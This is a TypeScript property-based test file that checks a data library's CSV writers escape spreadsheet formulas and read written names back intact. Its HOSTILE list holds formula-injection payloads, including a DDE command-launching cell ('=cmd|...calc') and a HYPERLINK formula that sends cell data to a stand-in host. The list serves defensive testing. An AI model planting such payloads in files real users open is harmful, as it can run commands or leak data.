/** Written tables hold no formulas, and what reads them finds the names that were written. */
import { parseCsv, readItemList, writeItemList } from '@miniseg/data';
import { toCsv } from '@miniseg/metrics';
import * as fc from 'fast-check';
import { expect, it } from 'vitest';

const HOSTILE = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  "'=1+1",
  "''=1+1",
  '=cmd|"/c calc"!A0',
  '=HYPERLINK("http://x.example/?"&A1,"open")',
  'a;=1+1',
  'a;=1+1;b',
  'a\t=1+1',
  'a\n=1+1',
  '--1',
  '-',
  '-tr_im_0001.png',
];
const PLAIN = [
  'a',
  "it's",
  "'quoted'",
  'b\n',
  ' a ',
  '\ufeffa',
  'a;b',
  'a-b',
  'x,=y',
  '\u00a0',
  'tr_im_0001.png',
  '"',
  '',
];

/** Cells as a spreadsheet has them that knows quotes, parts by any of these signs, and is not told which file it opens. */
function cellsOf(csv: string, separator: string): string[] {
  const cell = new RegExp(
    `(?:"((?:[^"]|"")*)"|([^${separator}\\r\\n]*))(${separator}|\\r\\n|\\n|\\r|$)`,
    'y',
  );
  const cells: string[] = [];
  while (cell.lastIndex < csv.length) {
    const found = cell.exec(csv);
    if (!found) break;
    cells.push(found[1]?.replaceAll('""', '"') ?? found[2]);
  }
  return cells;
}
const isFormula = (cell: string) =>
  /^[=+\-@\t\r\n＝＋－＠]/.test(cell) && !/^[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?$/i.test(cell);

const sign = fc.constantFrom(
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  "'",
  '"',
  ';',
  ',',
  ' ',
  '＝',
  'a',
  '1',
  '.',
  '\ufeff',
);
const name = fc.oneof(
  fc.constantFrom(...HOSTILE, ...PLAIN),
  fc.array(sign, { maxLength: 8 }).map((signs) => signs.join('')),
  fc.string(),
);

it.each(['=1+1', '@SUM(A1)', '\t1+1', '-1+1', '-tr_im_0001.png'])('%j is written as text', (cell) => {
  expect(toCsv([{ id: cell, n: 1 }])).toBe(`id,n\r\n"'${cell}",1\r\n`);
  expect(writeItemList([{ id: cell, image: cell }])).toBe(`id,image\n"'${cell}","'${cell}"\n`);
});

it('negative numbers stay numbers, given as such or as text', () => {
  const rows = [{ a: -1.5, b: '-1.5', c: '+3', d: -1e-7, e: '-1e-7' }];
  expect(toCsv(rows)).toBe('a,b,c,d,e\r\n-1.5,-1.5,+3,-1e-7,-1e-7\r\n');
});

it('no cell is a formula, whichever sign parts the cells of who opens the file', () => {
  const row = fc.record({ id: name, other: name });
  fc.assert(
    fc.property(fc.array(row, { minLength: 1, maxLength: 4 }), (rows) => {
      expect(cellsOf(toCsv(rows), ',').filter(isFormula)).toEqual([]);
      for (const text of HOSTILE.slice(12, 16))
        for (const separator of [';', '\t'])
          expect(cellsOf(toCsv([{ x: 1, id: text }]), separator).filter(isFormula)).toEqual([]);
    }),
  );
});

it('reads back the names that toCsv and writeItemList write, whatever they are', () => {
  fc.assert(
    fc.property(fc.array(name, { minLength: 1, maxLength: 5 }), (names) => {
      const rows = names.map((id, n) => ({ n, id }));
      expect(parseCsv(toCsv(rows)).records.map(({ id }) => id)).toEqual(names);
      const items = [...new Set(names)].filter((id) => id !== '').map((id) => ({ id, image: id }));
      if (items.length > 0) expect(readItemList(writeItemList(items))).toEqual(items);
    }),
    { numRuns: 500 },
  );
});
